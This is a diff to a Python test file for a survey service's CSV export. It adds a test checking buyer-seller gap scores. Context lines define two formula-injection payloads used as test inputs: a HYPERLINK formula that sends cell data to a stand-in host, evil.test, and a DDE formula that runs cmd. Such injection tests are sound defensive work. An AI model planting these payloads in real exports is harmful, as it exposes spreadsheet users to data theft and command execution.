@@ -8,11 +8,13 @@ import io
 import pytest
 
 from services.scoring.worker import close_wave
+from services.survey.organisations import create_api_key
 from services.survey.results import EXPORT_COLUMNS
 from shared.bus import InProcessBus
+from shared.vocabulary import DIMENSIONS
 from tests.conftest import isolated_settings
 from tests.integration.test_admin_support import SAMPLE_ROWS, make_admin
-from tests.support.survey_fixtures import complete_answers
+from tests.support.survey_fixtures import close, complete_answers, make_wave, survey_app
 
 HOSTILE_ACCOUNT = '=HYPERLINK("http://evil.test/?d="&A1,"Open")'
 HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -81,3 +83,37 @@ def test_export_writes_booleans_as_true_false_numbers_as_numbers_and_both_names(
     names_at = EXPORT_COLUMNS.index("contact_name")
     assert EXPORT_COLUMNS[names_at : names_at + 2] == ("contact_name", "account_name")
     assert names_at > EXPORT_COLUMNS.index("touchpoint.billing")  # added after the old ones
+
+
+def test_export_seller_rows_carry_their_pairs_gaps_and_buyer_rows_leave_them_empty(db):
+    settings = isolated_settings()
+    world = make_wave(db, settings, buyers=2, sellers=1, accounts=1)
+    client = survey_app(db, settings).test_client()
+    answers = [(world.buyers[0], world.buyers[0].subject_ids[0], 4)]
+    answers += [(world.sellers[0], subject_id, 6) for subject_id in world.sellers[0].subject_ids]
+    for person, subject_id, value in answers:
+        submitted = client.post(
+            f"/api/v1/respond/{person.token}/subjects/{subject_id}/submit",
+            json={"answers": complete_answers(value=value)},
+        )
+        assert submitted.status_code == 200, submitted.get_json()
+    close(db, settings, world)
+    key = create_api_key(db=db, org_id=world.org_id)
+    export = client.get(
+        f"/api/v1/waves/{world.wave_id}/export.csv", headers={"Authorization": f"Bearer {key}"}
+    )
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+
+    by_side = {(r["side"], r["contact_email"]): r for r in rows}
+    paired = by_side[("seller", "buyer1@client1.example")]
+    # 6s against 4s on a 1-7 scale: 83.33 - 50 on every dimension, the seller sees more
+    assert float(paired["gap"]) == pytest.approx(100 / 3, abs=0.01)
+    assert paired["gap_class"] == "blind_spot"
+    assert float(paired["nps_gap"]) == 0
+    assert [float(paired[f"gap.{d}"]) for d in DIMENSIONS] == [pytest.approx(100 / 3, abs=0.01)] * 6
+    unpaired = by_side[("seller", "buyer2@client1.example")]  # buyer 2 never answered
+    buyer = by_side[("buyer", "buyer1@client1.example")]
+    for row in (unpaired, buyer):
+        assert row["gap"] == row["gap_class"] == row["nps_gap"] == row["gap.trust"] == ""
+    assert tuple(rows[0]) == EXPORT_COLUMNS
